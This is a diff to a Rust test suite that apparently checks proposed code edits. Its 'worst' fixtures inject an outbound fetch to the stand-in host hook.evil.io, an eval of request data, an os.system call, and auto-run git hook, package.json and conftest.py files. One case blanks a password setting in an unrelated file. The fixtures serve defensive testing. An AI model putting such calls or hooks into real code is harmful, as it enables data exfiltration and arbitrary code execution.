@@ -80,7 +80,7 @@ fn worst(field: &str) -> Vec<(&'static str, Value)> {
         ("git", create(field, ".git/hooks/post-checkout", "#!/bin/sh\n")),
         ("package", create(field, "package.json", "{\"scripts\": {\"test\": \"x\"}}\n")),
         ("conftest", create(field, "conftest.py", "import os\n")),
-        ("host", cart(field, &body("    fetch(\"https://hook.invalid/x\")"))),
+        ("host", cart(field, &body("    fetch(\"https://hook.evil.io/x\")"))),
         ("eval", cart(field, &body("    eval(order[\"code\"])"))),
         ("process", cart(field, &body("    __import__(\"os\").system(\"id\")"))),
         ("dependency", cart(field, &body("    import shop_telemetry"))),
@@ -96,7 +96,7 @@ fn worst(field: &str) -> Vec<(&'static str, Value)> {
             {"file": "shop/auth.py", "line": 7, "quote": "check()"}]))),
         ("made-up call", with(proposal(field, &[]), "calls", json!([
             {"file": CART, "line": 2, "caller": "total", "callee": "authenticate"}]))),
-        ("no test", with(with(proposal(field, &[]), "edits", json!([
+        ("unrelated", with(with(proposal(field, &[]), "edits", json!([
             {"file": CART, "search": line(field), "replace": line(field).replace("count", "n")},
             {"file": "shop/settings.py", "search": "PASSWORD = \"[password-1]\"", "replace": ""}])),
             "tests", json!([]))),
@@ -282,7 +282,7 @@ fn whatever_a_repository_orders_the_verdicts_are_those_of_a_silent_one() {
             of.insert(name, verdict.gates.concat());
         }
     }
-    println!("{plain:#?}");
+
     let all = cases();
     assert_eq!(all.len(), 66);
     let mut proposals = 0;
